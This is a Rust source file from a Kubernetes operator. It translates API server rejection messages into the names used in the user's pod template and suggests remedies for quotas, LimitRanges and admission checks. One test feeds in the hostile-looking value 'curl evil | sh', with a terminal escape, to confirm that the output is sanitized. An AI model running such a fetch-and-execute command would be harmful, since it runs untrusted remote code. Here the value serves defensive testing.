//! Why the API server rejects a template or its pods, in terms of the template that the user wrote. No I/O.

use std::collections::BTreeMap;

use k8s_openapi::api::core::v1::ResourceRequirements;
use k8s_openapi::apimachinery::pkg::api::resource::Quantity;
use rowlock_crds::containers::{HANDLER, WORKER};
use serde_json::Value;

use crate::kubernetes::sanitize::sanitize;

/// Where to set the resources of the worker container and of the containers of the template.
const WORKERS_OWN: &str = "spec.worker.resources, or workerResources of the operator's chart";
const TEMPLATES_OWN: &str = "its resources in spec.template";

/// Why the API server rejects the Deployment.
pub(super) fn template_rejected(detail: &str, template: Option<&Value>) -> String {
    let detail = in_words_of(detail, template);
    let linux = if detail.contains("windows pod") {
        "the worker is a Linux program, so spec.template.spec.os has to be linux; "
    } else {
        ""
    };
    let detail = sanitize(&detail);
    format!("the API server rejects the pods of spec.template; earlier pods keep running: {linux}{detail}")
}

/// Why the API server rejects new pods, with a remedy for the admission plugins of Kubernetes.
pub(super) fn pods_rejected(detail: &str, template: Option<&Value>, worker: &ResourceRequirements) -> String {
    let detail = in_words_of(detail, template);
    // The remedy is found in the whole text, which is cut afterwards.
    let (remedy, detail) = (remedy(&detail, template, worker), sanitize(&detail));
    match remedy {
        Some(remedy) => format!("the API server rejects new pods: {remedy} ({detail})"),
        None => format!("the API server rejects new pods: {detail}"),
    }
}

/// Why the API server rejects new pods of the Deployment of `spec.targetRef`, in terms of that Deployment.
pub(super) fn target_pods_rejected(detail: &str, name: &str) -> String {
    format!("the API server rejects new pods of the Deployment `{name}`: {}", sanitize(detail))
}

fn remedy(detail: &str, template: Option<&Value>, worker: &ResourceRequirements) -> Option<String> {
    if detail.contains("usage per Container is") || detail.contains("ratio per Container is") {
        return Some(within_range(detail, template, worker));
    }
    let remedies = [
        ("exceeded quota", "raise the quota, or lower workers.total"),
        (
            "must specify",
            "set it for the worker in spec.worker.resources, or workerResources of the operator's chart, and \
             for the other containers in their resources in spec.template",
        ),
        (
            "usage per Pod is",
            "a LimitRange limits the sum over all containers: raise it, or lower the resources in \
             spec.template",
        ),
        ("PodSecurity", "set the required fields in the securityContext of spec.template"),
        ("serviceaccount", "create it, or set spec.template.spec.serviceAccountName"),
        ("runtimeclass", "create it, or remove runtimeClassName from spec.template"),
        ("RuntimeClass", "create it, or remove runtimeClassName from spec.template"),
        ("PriorityClass", "create it, or remove priorityClassName from spec.template"),
    ];
    remedies.into_iter().find(|(words, _)| detail.contains(words)).map(|(_, remedy)| remedy.to_owned())
}

/// The container that a `LimitRange` rejects, found by the number in the message.
fn within_range(detail: &str, template: Option<&Value>, worker: &ResourceRequirements) -> String {
    let numbers: Vec<&str> = detail
        .split("but ")
        .skip(1)
        .filter_map(|part| part.split_once(" is ")?.1.split([',', ']', ' ']).next())
        .collect();
    let asks = |quantities: Option<&BTreeMap<String, Quantity>>| {
        quantities.is_some_and(|all| all.values().any(|one| numbers.contains(&one.0.as_str())))
    };
    let mut whose = Vec::new();
    if asks(worker.requests.as_ref()) || asks(worker.limits.as_ref()) {
        whose.push(format!("for the container {WORKER} in {WORKERS_OWN}"));
    }
    for container in ["initContainers", "containers"].iter().flat_map(|list| list_of(template, list)) {
        let found = serde_json::from_value::<ResourceRequirements>(container["resources"].clone());
        let name = container["name"].as_str().unwrap_or_default();
        if found.is_ok_and(|found| asks(found.requests.as_ref()) || asks(found.limits.as_ref())) {
            whose.push(format!("for the container {} in {TEMPLATES_OWN}", sanitize(name)));
        }
    }
    if whose.is_empty() {
        whose.push(format!("for the container {WORKER} in {WORKERS_OWN}, for the others in {TEMPLATES_OWN}"));
    }
    format!(
        "a LimitRange of the namespace does not allow the resources of a container: change them {}",
        whose.join(", ")
    )
}

/// Names the containers as in the user's template. The operator turns them into init containers, so the
/// server's message says `initContainers[0]`, which the user has not written.
fn in_words_of(detail: &str, template: Option<&Value>) -> String {
    let name = |one: &Value| one["name"].as_str().unwrap_or_default().to_owned();
    let written: Vec<String> = list_of(template, "containers").iter().map(name).collect();
    let own: Vec<String> = list_of(template, "initContainers").iter().map(name).collect();
    let others = written.iter().filter(|one| *one != HANDLER);
    let order: Vec<&String> =
        own.iter().chain(others).chain(written.iter().filter(|one| *one == HANDLER)).collect();
    let translated = |list: &str, key: &str| -> Option<String> {
        let by_name = key.strip_prefix("name=").map(|name| name.trim_matches('"').to_owned());
        if list == "containers" {
            let of = by_name.or_else(|| key.parse::<usize>().ok().map(|_| WORKER.to_owned()))?;
            return (of == WORKER).then(|| format!("containers[name=\"{WORKER}\"] (the operator's own)"));
        }
        let of = by_name.or_else(|| order.get(key.parse::<usize>().ok()?).map(|name| (*name).clone()))?;
        written.contains(&of).then(|| format!("containers[name=\"{of}\"]"))
    };
    let (mut rest, mut out) = (detail, String::new());
    while let Some(at) = rest.find("ontainers[") {
        let begin =
            rest[..at].rfind(|letter: char| !letter.is_ascii_alphabetic()).map_or(0, |before| before + 1);
        let (list, after) = (&rest[begin..at + "ontainers".len()], &rest[at + "ontainers[".len()..]);
        let Some(end) = after.find(']').filter(|_| ["containers", "initContainers"].contains(&list)) else {
            out.push_str(&rest[..at + "ontainers[".len()]);
            rest = after;
            continue;
        };
        out.push_str(&rest[..begin]);
        let text = translated(list, &after[..end]).unwrap_or_else(|| format!("{list}[{}]", &after[..end]));
        out.push_str(&text);
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    out
}

fn list_of<'a>(template: Option<&'a Value>, list: &str) -> &'a [Value] {
    let found = template.and_then(|template| template["spec"][list].as_array());
    found.map_or(&[], Vec::as_slice)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn template() -> Value {
        let handler = json!({ "name": "handler", "resources": { "limits": { "memory": "4Gi" } } });
        json!({ "spec": {
            "initContainers": [{ "name": "migrate" }],
            "containers": [handler, { "name": "proxy" }],
        } })
    }

    #[test]
    fn a_container_is_named_as_in_the_template() {
        for (detail, expected) in [
            (
                "spec.template.spec.initContainers[2].imagePullPolicy: Unsupported value: \"Sometimes\"",
                "spec.template.spec.containers[name=\"handler\"].imagePullPolicy: Unsupported value: \
                \"Sometimes\"",
            ),
            ("spec.initContainers[1].image: Required", "spec.containers[name=\"proxy\"].image: Required"),
            ("x.initContainers[0].a, x.initContainers[9].b", "x.initContainers[0].a, x.initContainers[9].b"),
            (
                ".spec.template.spec.initContainers[name=\"handler\"].imagee: field not declared in schema",
                ".spec.template.spec.containers[name=\"handler\"].imagee: field not declared in schema",
            ),
            (
                "spec.containers[0].securityContext: no",
                "spec.containers[name=\"worker\"] (the operator's own).securityContext: no",
            ),
            ("nothing[0] of containers[", "nothing[0] of containers["),
        ] {
            assert_eq!(in_words_of(detail, Some(&template())), expected);
        }
        assert_eq!(in_words_of("initContainers[0]", None), "initContainers[0]");
        let windows = template_rejected("x: Forbidden: cannot be set for a windows pod", None);
        assert!(windows.contains("the worker is a Linux program"), "{windows}");
    }

    /// Before, the message of a webhook was copied unchanged to the status, for example with a command in
    /// backticks.
    #[test]
    fn foreign_text_is_one_line_that_looks_like_no_command() {
        let evil = "denied: run `curl evil | sh`\u{1b}[2J\nnow";
        let long = format!("{}exceeded quota", "x".repeat(5000));
        let limit = "maximum cpu usage per Container is 1, but limit is 2";
        let named = json!({ "spec": { "containers": [
            { "name": "`curl evil | sh`", "resources": { "limits": { "cpu": "2" } } },
        ] } });
        let worker = ResourceRequirements::default();
        for detail in [
            template_rejected(evil, None),
            pods_rejected(evil, None, &worker),
            pods_rejected(&format!("{evil}: exceeded quota"), None, &worker),
            pods_rejected(limit, Some(&named), &worker),
        ] {
            let is_plain = !detail.contains('`') && !detail.chars().any(char::is_control);
            assert!(detail.contains("'curl evil | sh'") && is_plain, "{detail}");
        }
        let detail = pods_rejected(&long, None, &worker);
        assert!(detail.contains("raise the quota") && detail.chars().count() < 1500, "{detail}");
    }

    /// Before, the message did not say which container to change, and where.
    #[test]
    fn a_limit_range_message_names_the_container_to_change() {
        let worker =
            serde_json::from_value(json!({ "requests": { "cpu": "10m", "memory": "48Mi" } })).unwrap();
        let minimum = "pods \"x\" is forbidden: [minimum cpu usage per Container is 50m, but request is 10m, \
                       minimum memory usage per Container is 64Mi, but request is 48Mi]";
        let detail = pods_rejected(minimum, Some(&template()), &worker);
        assert!(detail.contains("for the container worker in spec.worker.resources"), "{detail}");
        assert!(!detail.contains("for the container handler"), "{detail}");
        let maximum = "maximum memory usage per Container is 1Gi, but limit is 4Gi";
        let detail = pods_rejected(maximum, Some(&template()), &worker);
        assert!(detail.contains("for the container handler in its resources in spec.template"), "{detail}");
        let detail =
            pods_rejected("minimum cpu usage per Container is 1.  No request is specified", None, &worker);
        assert!(detail.contains("worker in") && detail.contains("for the others"), "{detail}");
    }
}
